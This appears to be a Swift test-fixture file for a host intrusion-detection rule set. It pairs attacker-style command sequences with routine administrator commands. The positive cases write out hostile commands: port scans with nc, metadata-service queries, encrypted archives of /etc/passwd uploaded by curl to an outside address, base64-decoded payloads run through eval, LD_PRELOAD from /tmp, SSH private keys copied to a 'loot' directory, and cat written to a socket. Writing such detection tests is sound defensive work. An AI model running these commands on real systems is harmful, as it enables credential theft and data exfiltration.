import MamoriEvents

/// Fixtures of the discovery-survey rules (`distinct: selection` families), the command-line
/// port probe burst, metadata-service connects and exfiltration-shaped uploads: each with the
/// administrator's nearest routine.
extension Fixtures {
    static let surveys: [RuleFixture] = [
        RuleFixture("discovery-families-in-one-session",
            positives: [
                Case("one login crosses accounts, system, network, connections and processes",
                     burst([("/usr/bin/id", "id"), ("/usr/bin/uname", "uname -a"), ("/usr/sbin/ip", "ip a"), ("/usr/bin/ss", "ss -tan"),
                            ("/usr/bin/ps", "ps aux")], in: Trees.rootLogin, gap: 5)),
            ],
            negatives: [
                Case("administrator checks listeners, addresses and a service's processes",
                     burst([("/usr/bin/ss", "ss -tlnp"), ("/usr/sbin/ip", "ip -br addr"), ("/usr/bin/ps", "ps aux --sort=-%mem"), ("/usr/bin/pgrep", "pgrep -l nginx"),
                            ("/usr/bin/df", "df -h"), ("/usr/bin/free", "free -m"), ("/usr/bin/uptime", "uptime")], in: Trees.rootLogin, gap: 5)),
            ]),

        RuleFixture("system-information-survey",
            positives: [
                Case("kernel, release, host identity and CPU asked in a row",
                     burst([("/usr/bin/uname", "uname -a"), ("/usr/bin/cat", "cat /etc/os-release"), ("/usr/bin/hostnamectl", "hostnamectl"), ("/usr/bin/lscpu", "lscpu")],
                           in: Trees.rootLogin)),
            ],
            negatives: [
                Case("kernel version checked twice and the disk usage", burst([("/usr/bin/uname", "uname -r"), ("/usr/bin/cat", "cat /proc/version"), ("/usr/bin/df", "df -h"), ("/usr/bin/uptime", "uptime")], in: Trees.rootLogin)),
            ]),

        RuleFixture("virtualisation-checks",
            positives: [
                Case("detector, PID 1 cgroup, CPU flag and a container marker",
                     burst([("/usr/bin/systemd-detect-virt", "systemd-detect-virt"), ("/usr/bin/cat", "cat /proc/1/cgroup"), ("/usr/bin/grep", "grep -i hypervisor /proc/cpuinfo"),
                            ("/usr/bin/ls", "ls -la /.dockerenv")], in: Trees.rootLogin)),
            ],
            negatives: [
                Case("systemd-detect-virt once, then ordinary work", burst([("/usr/bin/systemd-detect-virt", "systemd-detect-virt"), ("/usr/bin/ls", "ls -la /srv")], in: Trees.rootLogin)),
            ]),

        RuleFixture("network-configuration-survey",
            positives: [
                Case("addresses, routes, resolver and neighbours",
                     burst([("/usr/sbin/ip", "ip addr"), ("/usr/sbin/ip", "ip route"), ("/usr/bin/cat", "cat /etc/resolv.conf"), ("/usr/sbin/ip", "ip neigh")], in: Trees.rootLogin)),
            ],
            negatives: [
                Case("an address checked twice", burst([("/usr/sbin/ip", "ip -br addr"), ("/usr/sbin/ip", "ip addr show eth0"), ("/usr/bin/ping", "ping -c1 10.0.0.1")], in: Trees.rootLogin)),
            ]),

        RuleFixture("network-connections-survey",
            positives: [
                Case("all TCP connections, listeners and Unix sockets",
                     burst([("/usr/bin/ss", "ss -tanp"), ("/usr/bin/netstat", "netstat -tulpn"), ("/usr/bin/ss", "ss -xlp")], in: Trees.rootLogin)),
            ],
            negatives: [
                Case("listeners checked with ss and netstat", burst([("/usr/bin/ss", "ss -tlnp"), ("/usr/bin/netstat", "netstat -tlnp"), ("/usr/bin/ss", "ss -s")], in: Trees.rootLogin)),
            ]),

        RuleFixture("privileged-group-discovery",
            positives: [
                Case("getent group, groups and a grep of /etc/group",
                     burst([("/usr/bin/getent", "getent group sudo wheel adm docker lxd"), ("/usr/bin/groups", "groups"), ("/usr/bin/grep", "grep -E ^(sudo|wheel|docker) /etc/group")],
                           in: Trees.userLogin)),
            ],
            negatives: [
                Case("support lookup of one account", burst([("/usr/bin/getent", "getent passwd root"), ("/usr/bin/id", "id root")], in: Trees.rootLogin)),
            ]),

        RuleFixture("software-inventory",
            positives: [
                Case("package list and a lookup of several tools (which is a shell script)",
                     burst([("/usr/bin/dpkg-query", "dpkg-query --list"), ("/usr/bin/dash", "/bin/sh /usr/bin/which gcc python3 perl docker kubectl")], in: Trees.rootLogin)),
            ],
            negatives: [
                Case("one package checked several ways", burst([("/usr/bin/apt-cache", "apt-cache policy bash"), ("/usr/bin/dpkg", "dpkg -s bash"), ("/usr/bin/dash", "/bin/sh /usr/bin/which bash")], in: Trees.rootLogin)),
            ]),

        RuleFixture("process-list-searched-for-secrets",
            positives: [
                Case("ps | grep for several databases and secret stores",
                     Actor(Proc("/usr/bin/grep", ["grep", "-Ei", "mysql|postgres|redis|vault|secret"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/ps", "ps auxww"))),
                Case("ps -eo args | grep password",
                     Actor(Proc("/usr/bin/grep", ["grep", "-i", "password"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/ps", "ps -eo pid,user,args"))),
            ],
            negatives: [
                Case("ps aux | grep mysql (is the database running?)",
                     Actor(Proc("/usr/bin/grep", ["grep", "mysql"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/ps", "ps aux"))),
                Case("cat config | grep password (not a process listing)",
                     Actor(Proc("/usr/bin/grep", ["grep", "-i", "password_policy"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/sort", "sort notes.txt"))),
            ]),

        RuleFixture("port-probe-command-burst",
            positives: [
                Case("busybox nc run against twelve ports in a loop",
                     (0..<12).map { i in Actor(Proc("/usr/bin/busybox", ["./nc", "-w", "1", "-z", "127.0.0.1", "\(20 + i)"]), in: Trees.rootLogin).exec(at: 100 + Double(i) * 0.2) }),
            ],
            negatives: [
                Case("an administrator checks three ports with nc -zv",
                     [22, 443, 5432].enumerated().map { i, p in Actor(Proc("/usr/bin/nc.openbsd", ["nc", "-zv", "db1", "\(p)"]), in: Trees.rootLogin).exec(at: 100 + Double(i) * 3) }),
            ]),

        RuleFixture("cloud-metadata-service-contacted",
            positives: [
                Case("curl asks the metadata service", Actor(Proc.line("/usr/bin/curl", "curl -s -m 1 http://169.254.169.254/latest/meta-data/"), in: Trees.rootLogin).connect("169.254.169.254", 80, result: -101)),
            ],
            negatives: [
                Case("cloud-init reads its user data", Actor(Proc("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cloud-init", "modules", "--mode=config"], unit: "cloud-config.service"),
                                                            in: Trees.unit("cloud-config.service", Proc("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cloud-init", "modules", "--mode=config"], unit: "cloud-config.service")))
                        .connect("169.254.169.254", 80)),
                Case("a link-local neighbour that is not the metadata service", Actor(Proc.line("/usr/bin/curl", "curl -s http://169.254.10.1/"), in: Trees.rootLogin).connect("169.254.10.1", 80)),
            ]),

        RuleFixture("archive-uploaded-over-http",
            positives: [
                Case("archive POSTed as a form field", Actor(Proc.line("/usr/bin/curl", "curl -s -m 2 -F f=@/tmp/.e123.tgz http://127.0.0.1:8000/upload"), in: Trees.rootLogin).exec()),
                Case("encrypted blob sent as the raw body", Actor(Proc.line("/usr/bin/curl", "curl -s --data-binary @data.bin http://203.0.113.5/u"), in: Trees.rootLogin).exec(),
                     also: ["http-upload-of-local-file"]),
            ],
            negatives: [
                Case("developer posts a JSON fixture to a local API", Actor(Proc.line("/usr/bin/curl", "curl -s -d @payload.json http://127.0.0.1:8080/api"), in: Trees.userLogin).exec()),
                Case("archive downloaded, not uploaded", Actor(Proc.line("/usr/bin/curl", "curl -s -O http://127.0.0.1:8000/pkg.tgz"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("archive-encrypt-then-transfer",
            positives: [
                Case("tar, openssl enc, then curl upload in one session", [
                    Actor(Proc.line("/usr/bin/tar", "tar czf data.tgz -C / etc/passwd"), in: Trees.rootLogin).file(.create, "/root/data.tgz", at: 100),
                    Actor(Proc.line("/usr/bin/openssl", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in data.tgz -out data.bin"), in: Trees.rootLogin).file(.create, "/root/data.bin", at: 101),
                    Actor(Proc.line("/usr/bin/curl", "curl -s --data-binary @data.bin http://203.0.113.5/u"), in: Trees.rootLogin).exec(at: 102),
                ], also: ["http-upload-of-local-file", "archive-uploaded-over-http"]),
            ],
            negatives: [
                Case("backup archived and encrypted, kept locally", [
                    Actor(Proc.line("/usr/bin/tar", "tar czf backup.tgz /srv/app"), in: Trees.rootLogin).file(.create, "/root/backup.tgz", at: 100),
                    Actor(Proc.line("/usr/bin/gpg", "gpg -c backup.tgz"), in: Trees.rootLogin).file(.create, "/root/backup.tgz.gpg", at: 101),
                    Actor(Proc.line("/usr/bin/ls", "ls -la"), in: Trees.rootLogin).exec(at: 102),
                ]),
            ]),
        RuleFixture("interactive-shell-on-pipes",
            positives: [
                Case("sh -i fed by a FIFO, output piped to nc",
                     Actor(Proc("/usr/bin/dash", ["sh", "-i"]), in: Trees.rootLogin).exec(stdin: .fifo, stdout: .fifo)),
            ],
            negatives: [
                Case("bash -i at a terminal", Actor(Proc("/usr/bin/bash", ["bash", "-i"]), in: Trees.rootLogin).exec()),
                Case("a script's shell reads a pipe without -i", Actor(Proc("/usr/bin/dash", ["sh", "-s"]), in: Trees.rootLogin).exec(stdin: .fifo, stdout: .fifo)),
            ]),

        RuleFixture("decoded-payload-in-shell-command",
            positives: [
                Case("bash -c eval of a base64 decode",
                     Actor(Proc("/usr/bin/bash", ["bash", "-c", "eval \"$(echo aWQgPi9kZXYvbnVsbAo= | base64 -d)\""]), in: Trees.rootLogin).exec()),
                Case("sh -c of hex decoded into sh",
                     Actor(Proc("/usr/bin/dash", ["sh", "-c", "echo 69640a | xxd -r -p | sh"]), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("sh -c decodes a certificate into a file",
                     Actor(Proc("/usr/bin/dash", ["sh", "-c", "base64 -d cert.b64 > cert.pem"]), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("ld-preload-from-writable-path-in-command",
            positives: [
                Case("env LD_PRELOAD of a library in /tmp", Actor(Proc("/usr/bin/env", ["env", "LD_PRELOAD=/tmp/.x/libhook.so", "sudo", "-l"]), in: Trees.userLogin).exec()),
                Case("bash -c with a relative preload", Actor(Proc("/usr/bin/bash", ["bash", "-c", "LD_PRELOAD=./libhook.so /bin/true"]), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("jemalloc preloaded from /usr/lib", Actor(Proc("/usr/bin/env", ["env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "redis-server"]), in: Trees.rootLogin).exec()),
            ]),
        RuleFixture("ssh-private-keys-collected",
            positives: [
                Case("cp of a user's private key into a loot directory", Actor(Proc.line("/usr/bin/cp", "cp /home/alice/.ssh/id_ed25519 loot/"), in: Trees.rootLogin).exec()),
                Case("cat of an unexpanded key glob", Actor(Proc.line("/usr/bin/cat", "cat /root/.ssh/id_*"), in: Trees.rootLogin).exec()),
                Case("find over every home's .ssh for private keys", Actor(Proc.line("/usr/bin/find", "find /root/.ssh /home/*/.ssh -name id_* ! -name *.pub -exec cp {} loot/ ;"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("public key printed for authorized_keys", Actor(Proc.line("/usr/bin/cat", "cat /home/alice/.ssh/id_ed25519.pub"), in: Trees.userLogin).exec()),
                Case("permissions fixed", Actor(Proc.line("/usr/bin/chmod", "chmod 600 /home/alice/.ssh/id_rsa"), in: Trees.userLogin).exec()),
                Case("ssh-keygen derives the public key", Actor(Proc.line("/usr/bin/ssh-keygen", "ssh-keygen -y -f /home/alice/.ssh/id_rsa"), in: Trees.userLogin).exec()),
            ]),

        RuleFixture("tool-pushed-to-remote-temp",
            positives: [
                Case("scp of a tool into another host's /tmp", Actor(Proc.line("/usr/bin/scp", "scp -P 2222 -o BatchMode=yes tool root@10.0.0.9:/tmp/"), in: Trees.rootLogin).exec()),
                Case("rsync into /dev/shm", Actor(Proc.line("/usr/bin/rsync", "rsync -a kit 10.0.0.9:/dev/shm/"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("deploy into an application directory", Actor(Proc.line("/usr/bin/rsync", "rsync -az --delete /srv/app/ deploy@web2.internal:/srv/app/"), in: Trees.rootLogin).exec()),
                Case("fetch a file from another host's /tmp", Actor(Proc.line("/usr/bin/scp", "scp alice@10.0.0.9:/tmp/report.csv ."), in: Trees.userLogin).exec()),
            ]),

        RuleFixture("file-written-to-socket",
            positives: [
                Case("cat /etc/passwd > /dev/tcp/host/port", Actor(Proc.line("/usr/bin/cat", "cat /etc/passwd"), in: Trees.rootLogin).exec(stdout: .socket)),
            ],
            negatives: [
                Case("cat to the terminal", Actor(Proc.line("/usr/bin/cat", "cat /etc/passwd"), in: Trees.rootLogin).exec()),
                Case("an inetd service's cat", Actor(Proc.line("/usr/bin/cat", "cat /srv/motd"), in: Tree([Proc("/usr/sbin/inetd", ["/usr/sbin/inetd"]), Trees.systemd])).exec(stdout: .socket)),
            ]),

        RuleFixture("download-to-hidden-staging-file",
            positives: [
                Case("wget -O /var/tmp/.kit", Actor(Proc.line("/usr/bin/wget", "wget -q -O /var/tmp/.kit123 http://203.0.113.9/kit"), in: Trees.rootLogin).file(.create, "/var/tmp/.kit123")),
            ],
            negatives: [
                Case("release tarball downloaded into a scratch directory", Actor(Proc.line("/usr/bin/curl", "curl -s -O http://127.0.0.1:8000/pkg.tgz"), in: Trees.rootLogin).file(.create, "/tmp/build-123/pkg.tgz")),
            ]),
    ]
}
